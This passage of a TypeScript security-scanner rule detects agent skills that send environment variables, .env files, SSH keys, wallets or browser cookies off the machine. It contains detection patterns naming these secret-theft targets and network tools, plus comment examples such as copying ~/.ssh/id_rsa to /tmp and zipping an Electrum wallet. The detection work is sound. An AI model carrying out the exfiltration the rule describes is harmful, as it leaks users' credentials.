    const sources = findSources(code);
    const strong = sources.filter((s) => STRONG.has(s.kind));
    const first = strong[0] ?? sources[0];
    const tainted = mentions(code.replace(/(["'])(?:(?!\1)[^\\\n]|\\.)*\1/g, (q) => (/\$\{?\w|\{\w/.test(q) ? q : '""')), names, fnNames);
    const src = first ?? (tainted ? origin.get(tainted) : undefined);
    // every new binding keeps the window open for another `window` lines
    if (first) last = n;
    if (src) {
      const a = ASSIGN.exec(code);
      const f = FOR_IN.exec(code);
      const w = WITH_AS.exec(code);
      const direct = !!first;
      const add = (name: string) => {
        const base = name.split('.').pop()!;
        if ((base.length < 2 && !direct) || /^(?:self|this|os|_)$/.test(base)) return;
        names.add(base);
        origin.set(base, src);
      };
      if (a && !/^\s*(?:if|while|elif|return)\b/.test(code)) add(a[1]);
      if (f) for (const v of f[1].split(',')) add(v.trim());
      if (w) add(w[2]);
      const ret = /^\s*return\s+([\s\S]+)/.exec(code);
      if (ret) {
        const fn = enclosingFunction(text, ss, seg);
        if (fn) {
          fnNames.add(fn);
          origin.set(fn, src);
        }
      }
      // `d[k] = v` / `d.update(...)` / `list.append(...)` inside a loop over a source
      const sub = /^\s*([A-Za-z_]\w*)\s*(?:\[[^\]]*\]\s*=|\.(?:update|append|extend|push|add|set)\s*\()/.exec(code);
      if (sub) add(sub[1]);
      // a file the secret is written or archived into (`cat ~/.ssh/id_rsa > /tmp/k`, `zip w.zip ~/.electrum/…`)
      if (first && STRONG.has(first.kind)) for (const p of outputPaths(code)) {
        paths.add(p);
        origin.set(`path:${p}`, src);
      }
    }
    const viaPath = paths.size ? [...paths].find((p) => code.includes(p)) : undefined;
    if (viaPath) {
      for (const sink of sinksFor(code, lang)) {
        const args = code.slice(sink.call ? sink.index : sink.pipeStart, sink.argsEnd);
        const at = args.indexOf(viaPath);
        if (at < 0 || (first && STRONG.has(first.kind) && sink.index < first.index)) continue;
        const source = origin.get(`path:${viaPath}`)!;
        const j = judge({ ...source, index: (sink.call ? sink.index : sink.pipeStart) + at }, sink, code);
        if (j) out.push({ source, sink, severity: j.severity, host: j.host, via: viaPath, at: ss + sink.index });
      }
    }
    if (tainted) {
      for (const sink of sinksFor(code, lang)) {
        const args = code.slice(sink.call ? sink.index : sink.pipeStart, sink.argsEnd);
        const used = mentions(args.replace(/(["'])(?:(?!\1)[^\\\n]|\\.)*\1/g, (q) => (/\$\{?\w|\{\w/.test(q) ? q : '""')), names, fnNames);
        if (!used) continue;
        const source = origin.get(used)!;
        const fake: Source = { ...source, index: sink.index + Math.max(0, args.indexOf(used)) };
        const j = judge({ ...fake, index: code.indexOf(used, sink.index) >= 0 ? code.indexOf(used, sink.index) : sink.index }, sink, code);
        if (j) out.push({ source, sink, severity: j.severity, host: j.host, via: used, at: ss + sink.index });
      }
    }
    pos = se + 1;
    if (!names.size && !fnNames.size && !paths.size) break;
  }
  return { flows: out, until: pos };
}

/** Files a shell statement writes or archives into. */
function outputPaths(code: string): string[] {
  const out: string[] = [];
  const res = [
    /(?:^|[^<>&\d])>{1,2}\s*["']?([^\s"';&|)<>]+)/g,
    /(?<![\w.\/-])tee\s+(?:-a\s+)?["']?([^\s"';&|]+)/g,
    /(?<![\w.\/-])zip\s+(?:-\w+\s+)*["']?([^\s"';&|]+)/g,
    /(?<![\w.\/-])tar\s+(?:-?\w*c\w*f\s*|--create\s+(?:\S+\s+)*?--file[=\s])["']?([^\s"';&|]+)/g,
    /(?<![\w.\/-])7z\s+a\s+["']?([^\s"';&|]+)/g,
    /(?<![\w.\/-])cp\s+(?:-\w+\s+)*\S+\s+["']?([^\s"';&|]+)/g,
  ];
  for (const re of res) {
    let m: RegExpExecArray | null;
    while ((m = re.exec(code))) {
      const p = m[1];
      if (p.length >= 3 && !/^(?:\/dev\/|&|-)/.test(p)) out.push(p);
    }
  }
  return out;
}

function enclosingFunction(text: string, at: number, seg: Segment): string | undefined {
  const floor = Math.max(seg.start, at - 3000);
  const chunk = text.slice(floor, at);
  const re = /(?:^|\n)[ \t]*(?:async\s+)?(?:def|function)\s+([A-Za-z_]\w*)|(?:^|\n)[ \t]*(?:const|let|var)\s+([A-Za-z_]\w*)\s*=\s*(?:async\s*)?\(/g;
  let m: RegExpExecArray | null;
  let last: string | undefined;
  while ((m = re.exec(chunk))) last = m[1] ?? m[2];
  return last;
}

function stripComment(stmt: string, lang: Lang): string {
  if (lang === 'js') return stmt.replace(/(^|\s)\/\/[^\n]*/g, '$1');
  return stmt.replace(/(^|\s)#(?![!{])[^\n]*/g, '$1');
}

// ---- environment dumps ------------------------------------------------------------------

/** The whole environment printed, serialised or written, or filtered for secret names. */
const DUMP = new RegExp(
  [
    String.raw`\b(?:json\.dumps?|str|repr|print|pprint|yaml\.dump|pickle\.dumps?|base64\.\w*encode)\s*\(\s*(?:dict\s*\(\s*)?os\.environ\b(?!\s*(?:\.get|\[))`,
    String.raw`\bJSON\.stringify\s*\(\s*process\.env\s*[,)]|\bconsole\.(?:log|dir)\s*\(\s*process\.env\s*\)|\bfs\.(?:writeFileSync|writeFile|appendFileSync)\s*\([^)]*process\.env\s*[,)]`,
    String.raw`(?:^|[;&|]\s*)(?:env|printenv)\s*>{1,2}\s*(?!\/dev\/null)\S`,
    String.raw`\b(?:Get-ChildItem|gci|dir)\s+env:[^\n]*\|\s*(?:ConvertTo-Json|Out-File|Export-\w+)`,
  ].join('|'),
  'i',
);
const ENV_LOOP = /\bfor\s+\(?\s*(?:const\s+|let\s+|var\s+)?\[?\s*(\w+)\s*,\s*(\w+)\s*\]?\s+(?:in|of)\s+(?:os\.environ\.items\s*\(\s*\)|Object\.entries\s*\(\s*process\.env\s*\))/;
/** Iterating over the environment object itself. */
const ENV_ITER = /\bos\.environ\.(?:items|keys|values)\s*\(|\bin\s+os\.environ\b(?!\.)|\bObject\.(?:entries|keys|values)\s*\(\s*process\.env\s*\)|(?:^|[|;&(]\s*)(?:env|printenv)\s*\|\s*(?:grep|egrep|rg|awk|sed)\b|\b(?:Get-ChildItem|gci|dir)\s+env:|\bENV\.(?:each|select|to_h|filter_map)\b/m;
const SECRET_ELEMENT = /^_?(?:KEY|KEYS|SECRET|SECRETS|TOKEN|TOKENS|PASSWORD|PASSWORDS|PASSWD|PASS|PWD|CREDENTIAL|CREDENTIALS|CREDS|AUTH|PRIVATE|API_?KEY|ACCESS_?KEY)_?$/i;

/** At least two distinct secret words as quoted strings or alternatives (`["KEY", "TOKEN"]`, `'key|token'`). */
function secretFilter(s: string): boolean {
  const found = new Set<string>();
  const re = /(["'\/])((?:(?!\1)[^\n\\]|\\.){1,80})\1/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(s))) {
    for (const part of m[2].split(/\\?\||,|\s+/)) {
      const w = part.replace(/[()^$.*?+\[\]\\]/g, '');
      if (SECRET_ELEMENT.test(w)) found.add(w.replace(/^_|_$/g, '').toUpperCase().replace(/S$/, ''));
    }
  }
  return found.size >= 2;
}

// ---- prose -------------------------------------------------------------------------------

const PROSE_VERB = String.raw`\b(?:send|sends|sending|upload|uploads|uploading|post|posts|posting|transmit|transmits|forward|forwards|exfiltrate|exfiltrates|e-?mail|beacon|submit|leak|paste|deliver|ship|relay)\b`;
const PROSE_SECRET = String.raw`(?:(?:all|every|any)\s+(?:of\s+)?(?:the\s+)?(?:user'?s?\s+|your\s+)?(?:[\w-]+\s+)?(?:environment\s+variables|env\s+vars|api\s+keys|tokens|secrets|credentials|passwords)|(?:the\s+)?(?:output|contents?)\s+of\s+\x60?(?:env|printenv|set)\b|\x60?(?:~\/)?\.env\x60?(?:\s+files?)?|~\/\.ssh\b|\bssh\s+(?:private\s+)?keys\b|\bprivate\s+keys?\b|\.aws\/credentials|\baws\s+credentials\b|\bcredential\s+files?\b|\bbrowser\s+(?:cookies|passwords|profiles?)\b|\bsaved\s+passwords\b|\bkeychain\b|\bseed\s+phrases?\b|\bmnemonic(?:\s+phrases?)?\b|\bwallet\s+(?:files?|keys?)\b)`;
const PROSE_DEST = String.raw`(?:https?:\/\/|wss?:\/\/|\b[\w.+-]+@[\w-]+\.[a-z]{2,}\b|\bwebhook\b|\bour\s+(?:server|endpoint|api|backend|collector)\b|\b(?:discord|telegram)\b)`;
const ZH_VERB = String.raw`(?:发送|上传|提交|转发|回传|推送|传到|发到|发往|外发|同步到)`;
const ZH_SECRET = String.raw`(?:(?:所有|全部)(?:的)?(?:环境变量|(?:API\s*)?密钥|令牌|token|密码|凭据|凭证)|环境变量|\x60?\.env\x60?(?:\s*文件)?|私钥|SSH\s*密钥|~\/\.ssh|凭据文件|凭证文件|浏览器(?:的)?\s*(?:Cookie|cookie|密码)|保存的密码|钱包(?:文件)?|助记词|钥匙串)`;
const ZH_DEST = String.raw`(?:https?:\/\/|wss?:\/\/|[\w.+-]+@[\w-]+\.[a-z]{2,}|webhook|我们的服务器)`;
/** 「把 .env 文件的内容发送到 https://…」「上传私钥到 …」 */
const PROSE_ZH = new RegExp(String.raw`(?:${ZH_VERB}[^。！？\n]{0,60}?${ZH_SECRET}|${ZH_SECRET}[^。！？\n]{0,60}?${ZH_VERB})[^。！？\n]{0,80}?${ZH_DEST}[^\s)>"'\x60，。]*`, 'i');
const PROSE_HINT = new RegExp(`${PROSE_VERB}|${ZH_VERB}`, 'i');
const PROSE_DEST_HINT = /:\/\/|@|webhook|\bour\s|discord|telegram|服务器/i;
/** "send the contents of `.env` to https://…", "upload ~/.ssh to our server". */
const PROSE = new RegExp(String.raw`${PROSE_VERB}[^.!?\n]{0,120}?${PROSE_SECRET}[^.!?\n]{0,160}?(?:\bto\b|\binto\b|→|->|:)\s*[^!?\n]{0,60}?${PROSE_DEST}[^\s)>"'\x60]*`, 'i');

// ---- the rule -------------------------------------------------------------------------------

export const rule: Rule = {
  meta: {
    id: 'sentinel/secret-exfiltration',
    module: 'Sentinel',
    dimension: 'dim10',
    defaultSeverity: 'error',
    category: 'exfiltration',
    description: {
      en: 'Environment, .env files, keys or ~/.ssh sent off the machine (curl, nc, requests, fetch, DNS).',
      zh: '环境变量、.env、密钥或 ~/.ssh 被发送到外部（curl、nc、requests、fetch、DNS）。',
    },
    fixable: false,
    messages: {
      flow: {
        en: '`{cmd}` sends {source} to {dest}: the user\'s secrets leave the machine; remove it — no skill needs to ship them elsewhere{note}.',
        zh: '`{cmd}` 把{sourceZh}发送到 {dest}：用户的机密会离开本机；请删除——没有技能需要把它们发往别处{note}。',
      },
      flowVia: {
        en: '`{cmd}` sends {source}, carried in `{via}`, to {dest}: the user\'s secrets leave the machine; remove it{note}.',
        zh: '`{cmd}` 把{sourceZh}（经由 `{via}` 传递）发送到 {dest}：用户的机密会离开本机；请删除{note}。',
      },
      dump: {
        en: '`{cmd}` copies the whole environment (API keys and tokens included) into the output or a file; read only the variables the skill needs{note}.',
        zh: '`{cmd}` 把全部环境变量（包括 API 密钥和令牌）复制到输出或文件；请只读取技能需要的变量{note}。',
      },
      harvest: {
        en: '`{cmd}` collects environment variables whose names look like secrets (KEY, TOKEN, SECRET …); a skill reads the one variable it needs by name{note}.',
        zh: '`{cmd}` 按名称收集看起来像机密的环境变量（KEY、TOKEN、SECRET 等）；技能应只按名称读取它需要的那个变量{note}。',
      },
      capture: {
        en: '`{cmd}` sends data to {dest}, a request-capture, tunnel or out-of-band endpoint that anyone can read; use the service\'s real API{note}.',
        zh: '`{cmd}` 把数据发往 {dest}——一个任何人都能读取的请求捕获/隧道/带外回连地址；请使用服务的正式 API{note}。',
      },
      split: {
        en: '{collector} collects {source}, and `{cmd}` posts data to {dest}: the skill collects secrets in one place and sends data out in another (a split collector/sender) — check what is sent{note}.',
        zh: '{collector} 收集了{sourceZh}，而 `{cmd}` 把数据发往 {dest}：技能在一处收集机密、在另一处向外发送数据（收集与发送拆分）——请核查发送的内容{note}。',
      },
      prose: {
        en: 'Tells the agent to send secrets (the environment, keys, credentials, cookies) to an outside address: "{cmd}"{note}.',
        zh: '指示智能体把机密（环境变量、密钥、凭据、Cookie）发送到外部地址：“{cmd}”{note}。',
      },
    },
  },
  check(ctx) {
    const view = sentinelView(ctx.doc);
    const reported = new Set<string>();
    const collectors: Array<{ sf: SentinelFile; at: number; kind: SourceKind; broad: boolean }> = [];
    const senders: Array<{ sf: SentinelFile; seg: Segment; at: number; end: number; host: string; cmd: string }> = [];
    let flowFound = false;
    /** Per code segment, where the last variable walk ended (one walk covers the sources it passes). */
    const followed = new Map<Segment, number>();
    const key = (sf: SentinelFile, at: number) => `${sf.file.path}:${at}`;
    const report = (sf: SentinelFile, seg: Segment, start: number, end: number, messageId: string, base: Severity, data: Record<string, string>, reason?: Reason) => {
      const line = key(sf, lineBounds(sf.info.text, start)[0]);
      const flow = messageId === 'flow' || messageId === 'flowVia';
      const k = line + (flow ? 'flow' : messageId);
      if (reported.has(k) || (!flow && reported.has(line + 'flow'))) return;
      reported.add(k);
      emit(ctx, { sf, seg, start, end, messageId, data, base, kind: 'judgment', category: 'exfiltration', reason, facts: data.dest ? { dest: data.dest } : undefined });
    };

    for (const c of candidates(view, 'exfil', commands)) {
      const { sf, seg } = c;
      const text = sf.info.text;
      const code = seg.kind === 'code';
      const lang: Lang = sf.role === 'script' ? sf.lang : seg.lang;
      const long = c.end - c.start > MAX_LINE;
      const [cs, ce] = long ? [Math.max(c.start, c.pos - 400), Math.min(c.end, c.pos + 400)] : [c.start, c.end];
      const [ss, se] = code && !long ? statementSpan(text, cs, ce, seg) : [cs, ce];
      const stmt = text.slice(ss, se);

      // 1. a flow inside the statement (code) or inside one inline-code span / line (prose)
      const pieces: Array<[number, string]> = code ? [[ss, stmt]] : inlinePieces(stmt, ss);
      for (const [at, piece] of pieces) {
        for (const f of statementFlows(piece, code ? lang : 'any')) {
          const start = at + f.sink.index;
          const end = at + Math.max(f.sink.argsEnd, f.source.index + f.source.text.length);
          flowFound = flowFound || f.severity === 'error';
          const [base, why] = docHost(sf, f.severity, f.host);
          // In prose the command is the whole inline-code span (its own quotes are not prose quotation marks).
          const from = code ? Math.min(start, at + f.sink.pipeStart) : at;
          report(sf, seg, from, end, 'flow', base, flowData(piece.slice(Math.min(f.sink.index, f.sink.pipeStart), Math.max(f.sink.argsEnd, f.source.index + f.source.text.length)), f), why);
        }
        // request-capture inboxes and tunnels used as a destination
        const cap = CAPTURE_HINT.test(piece) ? (CAPTURE.exec(piece) ?? TUNNEL.exec(piece)) : null;
        if (cap && capturedDestination(piece, cap, code, sf.role === 'data')) {
          const start = at + cap.index;
          // Shipped code or configuration that sends to a throw-away receiver: error; an instruction in a document: warning.
          const base: Severity = sf.role === 'script' || sf.role === 'data' ? 'error' : 'warning';
          report(sf, seg, start, start + cap[0].length, 'capture', base, { cmd: clip(piece.trim()), dest: cap[0] });
        }
      }

      // 2. prose instructions
      if (!code) {
        const line = text.slice(...lineBounds(text, c.pos));
        const m = PROSE_HINT.test(line) && PROSE_DEST_HINT.test(line) ? (PROSE.exec(line) ?? PROSE_ZH.exec(line)) : null;
        if (m) {
          const ls = lineBounds(text, c.pos)[0];
          const host = hostOf(m[0]);
          if (!host || (!LOCAL.test(host) && !KNOWN_API.test(host))) {
            const [base, why] = docHost(sf, 'error', host);
            report(sf, seg, ls + m.index, ls + m.index + m[0].length, 'prose', base, { cmd: clip(m[0], 120) }, why);
          }
        }
      }

      if (!code) continue;

      // 3. whole-environment dumps and secret-named harvesting (once per line)
      const bare = stripComment(stmt, lang);
      const dump = DUMP.exec(bare);
      const loop = ENV_LOOP.exec(bare);
      const near = text.slice(ss, Math.min(seg.end, nthLineEnd(text, se, 4, seg.end)));
      const harvest = ENV_ITER.test(bare) && secretFilter(stripComment(near, lang));
      if (harvest) {
        collectors.push({ sf, at: ss, kind: 'env', broad: true });
        report(sf, seg, ss + (ENV_ITER.exec(bare)?.index ?? 0), se, 'harvest', 'warning', { cmd: clip(stmt.trim()) });
      } else if (dump || (loop && printsLoop(text, se, seg))) {
        collectors.push({ sf, at: ss, kind: 'env', broad: true });
        report(sf, seg, ss + (dump?.index ?? loop!.index), se, 'dump', 'warning', { cmd: clip(stmt.trim()) });
      }
      const all = findSources(bare);
      // a pattern list of a scanner names these paths without reading them
      if (!PATTERN_LINE.test(bare)) for (const s of all) if (STRONG.has(s.kind) && s.kind !== 'env') collectors.push({ sf, at: ss + s.index, kind: s.kind, broad: false });

      // 4. values carried by variables over the next lines of the block
      if (!long && all.length && ss >= (followed.get(seg) ?? -1) && BINDS.test(bare)) {
        const { flows, until } = variableFlows(text, seg, ss, lang);
        followed.set(seg, until);
        for (const f of flows) {
          flowFound = flowFound || f.severity === 'error';
          const [ls2, le2] = statementSpan(text, ...lineBounds(text, f.at), seg);
          const [base, why] = docHost(sf, f.severity, f.host);
          report(sf, seg, f.at, Math.min(le2, f.at + 200), 'flowVia', base, { ...flowData(text.slice(ls2, le2).trim(), f), via: f.via ?? '' }, why);
        }
      }
    }

    // 5. the collector/sender split across scripts
    if (!flowFound && collectors.some((c) => c.sf.role === 'script')) {
      for (const sf of view.files) {
        if (sf.role !== 'script') continue;
        const seg = sf.segments[0];
        const text = sf.info.text;
        SEND.lastIndex = 0;
        let m: RegExpExecArray | null;
        while ((m = SEND.exec(text))) {
          const [ls, le] = lineBounds(text, m.index);
          const [ss, se] = statementSpan(text, ls, le, seg);
          const stmt = stripComment(text.slice(ss, se), sf.lang);
          if (!SEND_ONE.test(stmt)) {
            SEND.lastIndex = m.index + m[0].length;
            continue;
          }
          SEND.lastIndex = Math.max(m.index + m[0].length, se);
          const host = hostOf(stmt) ?? hostOf(resolveUrlVar(text, stmt) ?? '');
          if (!host || LOCAL.test(host) || KNOWN_API.test(host)) continue;
          senders.push({ sf, seg, at: ss, end: se, host, cmd: clip(stmt.trim()) });
          break;
        }
      }
      const sender = senders[0];
      const scriptCollectors = collectors.filter((c) => c.sf.role === 'script');
      if (sender && scriptCollectors.length) {
        const kinds = new Set(scriptCollectors.map((c) => c.kind));
        const broad = scriptCollectors.some((c) => c.broad) || kinds.size >= 2;
        const first = scriptCollectors.find((c) => c.sf !== sender.sf) ?? scriptCollectors[0];
        const line = first.sf.info.text.slice(0, first.at).split('\n').length;
        const { en, zh } = SOURCE_NAMES[first.kind];
        report(sender.sf, sender.seg, sender.at, sender.end, 'split', broad ? 'error' : 'warning', {
          collector: `${first.sf.file.path}:${line}`,
          source: [...kinds].map((k) => SOURCE_NAMES[k].en).join(', ') || en,
          sourceZh: [...kinds].map((k) => SOURCE_NAMES[k].zh).join('、') || zh,
          cmd: sender.cmd,
          dest: sender.host,
        });
      }
    }
  },
};

/**
 * A capture inbox used as a destination anywhere but a prose mention; a tunnel only as
 * where code sends to (a sink, a URL-ish variable) or a URL-ish key of a data file —
 * not the public address a webhook is registered at.
 */
function capturedDestination(piece: string, cap: RegExpExecArray, code: boolean, data: boolean): boolean {
  const capture = CAPTURE.test(cap[0]);
  const before = piece.slice(Math.max(0, cap.index - 120), cap.index);
  const urlish = /\b(?:base_?url|api_?url|api_?base|endpoint|server(?:_?url)?|host|target|destination|collector|report(?:_?url)?|upload(?:_?url)?|exfil\w*|url|uri)["']?\s*[:=]\s*["']?(?:https?|wss?):\/\/[^\s"']*$/i.test(before);
  const inbound = /\b(?:webhook|callback|redirect|forward(?:ing)?)[\w-]*["']?\s*[:=]\s*["']?(?:https?:\/\/)?[^\s"']*$/i.test(before) && !/\b(?:base_?url|endpoint|api)\b/i.test(before);
  if (code) return capture ? /:\/\/|\b(?:curl|wget|nslookup|dig)\b/i.test(piece) : findSinks(piece).length > 0 || (urlish && !inbound);
  if (data) return capture || (urlish && !inbound);
  // prose: a command in inline code, or a capture URL
  return capture ? /:\/\//.test(piece) && (/\b(?:curl|wget|send|post|upload|fetch|report)\b/i.test(piece)) : findSinks(piece).length > 0;
}

/**
 * A flow aimed at a documentation host (attacker.example, evil.com): in a reference
 * document it is a teaching example (info); in SKILL.md, which the agent follows, it
 * still counts, as a warning; scripts run whatever host they name.
 */
function docHost(sf: SentinelFile, severity: Severity, host: string | undefined): [Severity, Reason | undefined] {
  if (!host || !DOC_HOST.test(host.replace(/:\d+$/, ''))) return [severity, undefined];
  if (sf.role === 'markdown') return [severity, 'example-host'];
  if (sf.role === 'skill' && severity === 'error') return ['warning', undefined];
  return [severity, undefined];
}

/** A line that builds a detection pattern (a regex literal, `re.compile`, `(?i)`). */
const PATTERN_LINE = /\(\?[imsxu]+\)|\\[.sbdwS]|\bre\.(?:compile|search|match|findall)\s*\(|\bnew\s+RegExp\b|\/[^/\n]*\\\.[^/\n]*\/[gimsuy]*/;

/** A request that carries a payload (POST/PUT, a body, a form, an upload). */
const SEND = /\b(?:requests|httpx|session|client|s)\.(?:post|put|patch)\s*\(|\burlopen\s*\([^)\n]*\bdata\s*=|\burllib\.request\.Request\s*\([^)\n]*\bdata\s*=|\bfetch\s*\([^)]*\bmethod\s*:\s*["'](?:POST|PUT|PATCH)|\baxios\.(?:post|put|patch)\s*\(|\bcurl\b[^\n]*\s(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|-X\s*POST)\b|\bwget\b[^\n]*--post-(?:data|file)|\bInvoke-(?:RestMethod|WebRequest)\b[^\n]*-Method\s+["']?Post/gi;

/** The URL a constant in the statement was assigned (`ENDPOINT = "https://…"`), looked up in the same file. */
const SEND_ONE = new RegExp(SEND.source, 'i');

export function resolveUrlVar(text: string, stmt: string): string | undefined {
  const names = new Set([...(stmt.match(/\b[A-Z_][A-Z0-9_]{2,}\b/g) ?? []), ...(stmt.match(/\b[a-z_]\w*(?:url|endpoint|host|uri)\w*\b/gi) ?? [])]);
  for (const n of names) {
    const re = new RegExp(String.raw`(?:^|\n)\s*(?:export\s+|const\s+|let\s+|var\s+|self\.)?${n}\s*(?::\s*\w+\s*)?[:=]\s*["'\x60]([^"'\x60\n]+)`);
    const m = re.exec(text);
    if (m && /\w+:\/\//.test(m[1])) return m[1].slice(m[1].search(/\w+:\/\//));
  }
  return undefined;
}

const SOURCE_NAMES: Record<SourceKind, { en: string; zh: string }> = {
  env: { en: 'the environment variables', zh: '环境变量' },
  dotenv: { en: 'a .env file', zh: '.env 文件' },
  ssh: { en: 'SSH keys', zh: 'SSH 密钥' },
  store: { en: 'a credential file', zh: '凭据文件' },
  browser: { en: 'browser cookies/passwords', zh: '浏览器 Cookie/密码' },
  wallet: { en: 'wallet files', zh: '钱包文件' },
  keychain: { en: 'keychain secrets', zh: '钥匙串机密' },
  history: { en: 'shell history', zh: 'shell 历史记录' },
  envKey: { en: 'a credential from the environment', zh: '环境变量中的凭据' },
  secretFile: { en: 'a secret read from a file', zh: '从文件读取的机密' },
  identity: { en: 'the user and host identity', zh: '用户与主机身份信息' },
};

function flowData(cmd: string, f: Flow): Record<string, string> {
  const n = SOURCE_NAMES[f.source.kind];
  const dest = f.sink.kind === 'dns' ? `DNS lookups (${f.host ?? 'a crafted host name'})` : f.host ? f.host : 'an address held in a variable';
  return { cmd: clip(cmd.replace(/\s*\\\n\s*/g, ' ').replace(/\s+/g, ' ').trim()), source: `${n.en} (${clip(f.source.text, 40)})`, sourceZh: `${n.zh}（${clip(f.source.text, 40)}）`, dest };
}

function clip(s: string, n = 80): string {
  const t = s.replace(/\s+/g, ' ');
  return t.length > n ? `${t.slice(0, n - 1)}…` : t;
}

/** Inline code spans of a prose line (each a command), plus the line itself when it has none. */
function inlinePieces(line: string, at: number): Array<[number, string]> {
  const out: Array<[number, string]> = [];
  const re = /(`+)([^`]+?)\1/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(line))) out.push([at + m.index + m[1].length, m[2]]);
  if (!out.length) out.push([at, line]);
  return out;
}

function nthLineEnd(text: string, from: number, n: number, limit: number): number {
  let p = from;
  for (let i = 0; i < n && p < limit; i++) {
    const nl = text.indexOf('\n', p + 1);
    p = nl < 0 ? limit : nl;
  }
  return Math.min(p, limit);
}

/** The body of an environment loop prints or writes its values. */
function printsLoop(text: string, from: number, seg: Segment): boolean {
  const body = text.slice(from, nthLineEnd(text, from, 3, seg.end));
  return /\b(?:print|console\.log|sys\.stdout\.write|\.write|logger\.\w+|echo)\s*\(/.test(body);
}
